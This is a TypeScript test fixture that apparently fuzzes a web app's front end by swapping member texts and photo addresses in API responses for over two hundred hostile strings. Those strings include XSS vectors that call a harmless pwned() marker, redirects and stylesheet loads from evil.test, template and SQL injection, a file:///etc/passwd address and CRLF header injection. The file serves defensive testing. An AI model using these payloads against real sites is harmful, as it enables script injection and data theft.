/** Any code in {@link hostileTexts} that gets to run calls this. */
const RUN = 'pwned()';

const elements = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<style>@import "https://evil.test/x.css";*{display:none!important}</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<marquee onstart=${RUN}>`,
  `<body onload=${RUN}>`,
  `<mm-login api="https://evil.test/api"></mm-login>`,
  `<slot name="x" onslotchange=${RUN}></slot>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${RUN}'/>">`,
];

/** Ways to escape from the place where a text is inserted. */
const escapes = ['', '">', "'>", '</textarea></title></style></script>', '`', '\u0000', '--!>'];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  'https://evil.test/photo.png',
  '//evil.test/photo.png',
  '\\\\evil.test\\photo.png',
  'blob:https://evil.test/0',
  'file:///etc/passwd',
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `[object Object]`,
  `__proto__`,
  `constructor`,
  `toString`,
  `%s%s%n%x`,
  `'; DROP TABLE users; --`,
  `url(javascript:${RUN})`,
  `expression(${RUN})`,
  `red;} * { display: none } x {`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`,
  `+ADw-script+AD4-${RUN}`,
  `null`,
  `undefined`,
  `NaN`,
];

const letters = [
  '\u202eevitan\u202c',
  '\u2066left\u2069\u2067right\u2069',
  'مريم\u200f (Admin)',
  'a\u200bb\u200cc\u200dd\ufeff',
  '\ud800 alone',
  '\udc00 alone',
  '👩🏽‍❤️‍💋‍👨🏿'.repeat(40),
  `Z${'\u0334\u0321\u0349'.repeat(60)}algo`,
  'W'.repeat(2_000),
  'ﷺ'.repeat(200),
  'ﷺ﷽'.repeat(50),
  'x\u2028y\u2029z',
  '\r\n\r\nSet-Cookie: x=1',
  '   ',
  '\u00a0\u3000',
  'İıſK',
  '\u{e0041}\u{e0042}',
];

/**
 * More than two hundred texts that have caused harm: code that runs if a text is treated as markup, an address, a style
 * or a template, and characters that confuse readers. Code that runs calls `pwned()`.
 */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap((element) => escapes.map((before) => before + element)),
  ...addresses,
  ...templates,
  ...letters,
];

/** Fields that are not shown as text. Their values are compared, counted or sent back. */
const NO_TEXT =
  /(^|_)(id|user|room|token|at|date|birth|type|status|gender|key|cursor|unit|kind|slot)$|^(access|refresh)/;

const isAddress = (value: string) => /^(https?:|\/)/.test(value);

/** Photos may be on another host, which only the partner's policy can refuse. */
function isElsewhere(address: string): boolean {
  const here = 'http://here.test';
  return (
    URL.canParse(address, here) &&
    /^http/.test(new URL(address, here).protocol) &&
    new URL(address, here).origin !== here
  );
}

/** Fields whose values are words that both sides know. */
const WORDS = /(^|_)(type|status|gender|kind|unit|icon)$/;

/** Copies an answer, with a word that nobody knows in place of every known one. */
export function unknown(answer: unknown, word: string): unknown {
  if (Array.isArray(answer)) return answer.map((one) => unknown(one, word));
  if (typeof answer !== 'object' || answer === null) return answer;
  return Object.fromEntries(
    Object.entries(answer).map(([name, value]) => [
      name,
      typeof value === 'string' && WORDS.test(name) ? word : unknown(value, word),
    ]),
  );
}

/** Without a first name there is no profile, so that every screen rightly leads to the wizard. */
const isNeeded = (name: string) => name === 'first_name';

/** Copies an answer, with hostile texts in place of member texts and photo addresses. */
export function poison(answer: unknown, next: () => string): unknown {
  if (Array.isArray(answer)) return answer.map((one) => poison(one, next));
  if (typeof answer !== 'object' || answer === null) return answer;
  return Object.fromEntries(
    Object.entries(answer).map(([name, value]) => {
      if (typeof value !== 'string' || NO_TEXT.test(name)) return [name, poison(value, next)];
      const isRefused = (text: string) => (isAddress(value) && isElsewhere(text)) || (isNeeded(name) && !text.trim());
      let text = next();
      while (isRefused(text)) text = next();
      return [name, text];
    }),
  );
}
